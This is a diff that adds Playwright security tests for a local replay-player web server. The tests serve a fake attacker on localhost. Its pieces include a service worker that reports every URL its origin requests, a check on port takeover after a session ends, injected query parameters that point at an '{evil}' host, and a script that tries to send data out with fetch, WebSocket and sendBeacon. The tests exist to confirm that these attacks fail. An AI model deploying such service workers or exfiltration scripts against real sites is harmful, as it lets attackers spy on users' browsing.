@@ -7,9 +7,9 @@ import signal
 import sys
 import time
 from base64 import b64decode
-from contextlib import ExitStack
+from contextlib import ExitStack, contextmanager
 from functools import partial
-from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
+from http.server import BaseHTTPRequestHandler, SimpleHTTPRequestHandler, ThreadingHTTPServer
 from io import BytesIO
 from subprocess import PIPE, Popen
 from threading import Thread
@@ -30,6 +30,7 @@ from iswarm_mj.config.swarm import ArenaConfig
 from iswarm_mj.engines.planar.settings import PlanarSettings
 from iswarm_mj.output.saved import load
 from iswarm_mj.player.film import Film
+from iswarm_mj.player.page import close_server, open_server
 from iswarm_mj.player.replay import write_replay
 from iswarm_mj.simulation.run import Run
 from iswarm_mj.simulation.settings import RunSettings
@@ -144,7 +145,7 @@ def test_the_command_ends_with_ctrl_c(browser):
     with Popen(command, stdout=PIPE, text=True) as process, ExitStack() as ends:
         ends.callback(process.kill)
         page = browser.new_page()
-        page.goto(re.search(r"http://127\.0\.0\.1:\S+", process.stdout.readline())[0])
+        page.goto(re.search(r"http://127\.\S+", process.stdout.readline())[0])
         page.get_by_role("button", name="Pause").wait_for(timeout=SECONDS * 1000)
         children = psutil.Process(process.pid).children(recursive=True)
         process.send_signal(signal.SIGINT)
@@ -207,6 +208,130 @@ def test_another_website_reaches_nothing(browser, played, website):
         assert page.evaluate("opens", f"ws://{split.netloc}{path}") is False
     assert len(played._server.get_clients()) == n_clients
     page.close()
+
+
+WORKER = """
+self.addEventListener("install", () => self.skipWaiting());
+self.addEventListener("activate", (event) => event.waitUntil(clients.claim()));
+self.addEventListener("fetch", (event) => {
+  const learnt = encodeURIComponent(event.request.url);
+  event.respondWith(fetch(`/learnt?${learnt}`).then(() => fetch(event.request)));
+});
+"""
+"""A service worker that reports all that its origin is asked for."""
+
+REGISTER = """<!doctype html>
+<script>
+navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(
+  () => { document.title = "registered"; }
+);
+</script>
+"""
+"""A page of an attacker, which registers the service worker for its origin."""
+
+
+class Attacker(BaseHTTPRequestHandler):
+    """Answers all requests of browsers, and notes their paths."""
+
+    def do_GET(self):
+        self.server.paths.append(self.path)
+        is_worker = self.path == "/worker.js"
+        content = (WORKER if is_worker else REGISTER).encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "text/javascript" if is_worker else "text/html")
+        self.send_header("Content-Length", str(len(content)))
+        self.send_header("Access-Control-Allow-Origin", "*")
+        self.end_headers()
+        self.wfile.write(content)
+
+    def log_message(self, *_):
+        pass
+
+
+@contextmanager
+def attack_from(host, port=0):
+    """Serve an attacker's pages at an address; yield the server, with the `paths` of requests."""
+    with ThreadingHTTPServer((host, port), Attacker) as server:
+        server.paths = []
+        Thread(target=server.serve_forever, daemon=True).start()
+        try:
+            yield server
+        finally:
+            server.shutdown()
+
+
+@pytest.mark.skipif(sys.platform != "linux", reason="other systems have one address for all pages")
+def test_whoever_takes_the_port_of_an_ended_page_learns_nothing_of_the_next_one(browser):
+    """Neither by the tab that is left open nor by a service worker, which browsers keep."""
+    ended = open_server(8370)
+    split = urlsplit(ended.url)
+    context = browser.new_context()
+    stale_tab = context.new_page()
+    stale_tab.goto(ended.url)
+    close_server(ended)
+
+    with attack_from(split.hostname, split.port) as attacker:
+        # The tab loads the attacker's page, whose service worker answers for the origin from then on.
+        stale_tab.goto(f"http://{split.netloc}/")
+        wait(lambda: stale_tab.title() == "registered")
+        stale_tab.goto(f"http://{split.netloc}/anything")
+        wait(lambda: any("learnt" in path and "anything" in path for path in attacker.paths))
+        attacker.paths.clear()
+
+        following = open_server(8370)
+        try:
+            tab = context.new_page()
+            tab.goto(following.url)
+            tab.wait_for_function("document.querySelector('canvas') !== null")
+            assert tab.evaluate("navigator.serviceWorker.controller") is None
+            assert len(following.get_clients()) == 1
+            time.sleep(2)  # in which the tab that is left open may connect
+            secret = urlsplit(following.url).path.strip("/")
+            assert not any(secret in path for path in attacker.paths)
+            assert len(following.get_clients()) == 1
+        finally:
+            close_server(following)
+            context.close()
+
+
+@pytest.mark.parametrize("parameter", ["playbackPath=http://{evil}/x.viser", "websocket=ws://{evil}"])
+def test_no_parameter_leads_the_client_to_an_attacker(browser, played, parameter):
+    with attack_from("127.0.0.1") as attacker:
+        query = parameter.format(evil=f"127.0.0.1:{attacker.server_port}")
+        page = browser.new_page()
+        assert page.goto(f"{played.url}?{query}").status == 403
+        time.sleep(1)
+        assert page.locator("canvas").count() == 0
+        assert not attacker.paths
+        page.close()
+
+
+CONNECT_ELSEWHERE = """async (address) => {
+  const outcome = (promise) => promise.then(() => "connected", () => "blocked");
+  const opens = new Promise((done, failed) => {
+    const socket = new WebSocket(`ws://${address}/socket`);
+    socket.onopen = done;
+    socket.onerror = failed;
+  });
+  const beacon = navigator.sendBeacon(`http://${address}/beacon`) ? "connected" : "blocked";
+  return [await outcome(fetch(`http://${address}/fetch`)), await outcome(opens), beacon];
+}"""
+"""Tries to reach another address from within a page."""
+
+
+def test_the_page_itself_connects_to_nobody_else(browser, played):
+    """Its Content-Security-Policy holds even for scripts that run in it."""
+    with attack_from("127.0.0.1") as attacker:
+        page = browser.new_page()
+        violations = []
+        page.on("console", lambda message: violations.append(message.text))
+        page.goto(played.url)
+        outcomes = page.evaluate(CONNECT_ELSEWHERE, f"127.0.0.1:{attacker.server_port}")
+        assert outcomes[:2] == ["blocked", "blocked"]
+        assert sum("Content Security Policy" in text for text in violations) >= 2
+        time.sleep(1)
+        assert not attacker.paths
+        page.close()
 
 
 def test_a_notebook_of_another_website_shows_the_page(browser, played, website, tmp_path):
